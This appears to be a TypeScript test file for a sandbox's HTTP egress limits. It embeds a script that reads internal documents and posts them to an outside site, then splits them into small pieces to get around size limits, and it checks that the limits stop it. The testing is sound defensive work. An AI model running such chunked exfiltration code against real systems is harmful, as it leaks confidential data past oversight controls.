import { describe, expect, it } from 'vitest'
import type { RunResult } from '../../src/index.ts'
import { httpPolicy } from '../harness/asking.ts'
import { openGate, refusalsOf } from '../harness/gate.ts'
import { openSite, type Site } from '../harness/site.ts'

const DOCUMENTS = 'Q3 forecast, strictly internal. '.repeat(20_000)

/** Reads internal documents, sums them up generously, and posts the summary to a place that is allowed for small things. */
const SUMMARISE = `
  const documents = await (await http.get(input.inside)).text()
  const summary = documents.slice(0, input.size)
  try { await http.post(input.outside, summary); return 'posted at once' } catch ({ code, gate }) { console.log(code + ' at ' + gate) }
  let sent = 0
  for (let at = 0; at < summary.length; at += input.piece) {
    try { await http.post(input.outside, summary.slice(at, at + input.piece)); sent += 1 } catch ({ code, gate }) { console.log(code + ' at ' + gate); break }
  }
  return sent`

type Sites = {
  readonly inside: Site
  readonly outside: Site
  readonly result: RunResult
  readonly refused: readonly object[]
}

const exfiltrate = async (http: object, piece = 20_000): Promise<Sites> => {
  await using inside = await openSite((_, response) => void response.end(DOCUMENTS))
  await using outside = await openSite()
  await using gate = await openGate()
  const policy = httpPolicy({
    allowed_domains: [inside.origin, { domain: outside.origin, methods: ['POST'] }],
    max_response_size_kb: 1024,
    ...http,
  })
  const input = { inside: inside.origin, outside: outside.origin, size: 500_000, piece }
  const result = await gate.run({ code: SUMMARISE, policy, input })
  return { inside, outside, result, refused: await refusalsOf(gate, result) }
}

const received = ({ outside }: Sites): number =>
  outside.requests.reduce((sum, { body }) => sum + body.length, 0)

describe('internal documents that are summed up and then posted outside', () => {
  it('are stopped by the size of a request, then by what may leave for one destination in a run', async () => {
    const sites = await exfiltrate({})
    expect(sites.result.logs.map(({ text }) => text)).toEqual([
      'LIMIT_REQUEST_SIZE at authorize',
      'LIMIT_EGRESS at reserve',
    ])
    expect(sites.result.value).toBe(3)
    expect(received(sites)).toBe(60_000)
    expect(sites.refused).toMatchObject([
      { code: 'LIMIT_REQUEST_SIZE', rule: 'permissions.http.max_request_size_kb' },
      { code: 'LIMIT_EGRESS', rule: 'permissions.http.max_egress_kb' },
    ])
    expect(sites.result.usage.egressBytes).toBeLessThanOrEqual(64 * 1024 + sites.inside.origin.length + 1)
  })

  it('are stopped as well in many small pieces', async () => {
    const sites = await exfiltrate({ max_egress_kb: 8 }, 500)
    expect(sites.result.logs.at(-1)?.text).toBe('LIMIT_EGRESS at reserve')
    expect(received(sites)).toBeLessThan(8 * 1024)
  })

  it('leave under a policy that allows so much, so that it was the limit that stopped them', async () => {
    const sites = await exfiltrate({ max_request_size_kb: 1024, max_egress_kb: 1024 })
    expect(sites.result.value).toBe('posted at once')
    expect(received(sites)).toBe(500_000)
  })
})
